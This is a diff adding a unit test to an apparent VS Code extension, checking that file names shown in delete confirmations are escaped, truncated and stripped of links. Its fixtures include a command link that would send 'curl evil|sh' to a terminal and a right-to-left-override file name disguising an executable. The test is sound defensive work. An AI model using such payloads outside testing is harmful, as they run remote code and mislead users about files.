@@ -87,6 +87,17 @@ describe('volumes: display rules', () => {
     assert.equal(describeFileList(['a', 'b', 'c', 'd', 'e']), '"a", "b", "c" and 2 more');
   });
 
+  it("quotes the service's file names in the delete confirmation and notifications bounded, escaped and without links", () => {
+    // A notification makes `[label](command:…)` a link that runs the command (VS Code's parseLinkedText).
+    const link = '[Undo delete](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cr%22%7D)';
+    const text = describeFileList([link, 'invoice\u202Egpj.exe', 'two\nlines', 'x'.repeat(100_000)]);
+    assert.equal(/\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+\)/i.exec(text), null, text);
+    assert.ok(text.includes('"invoice\\u202egpj.exe"'), text);
+    assert.ok(text.includes('"two\\nlines"'), text);
+    assert.ok(text.length < 500, 'a 100 KB name is cut');
+    assert.equal(describeFileList(['x'.repeat(100_000)]).length, 122, 'at most 120 characters of one name, quoted');
+  });
+
   it('matches file names by substring, or with * and ? wildcards', () => {
     assert.ok(nameMatcher('Report')('q3-report.pdf'));
     assert.ok(!nameMatcher('report')('summary.pdf'));
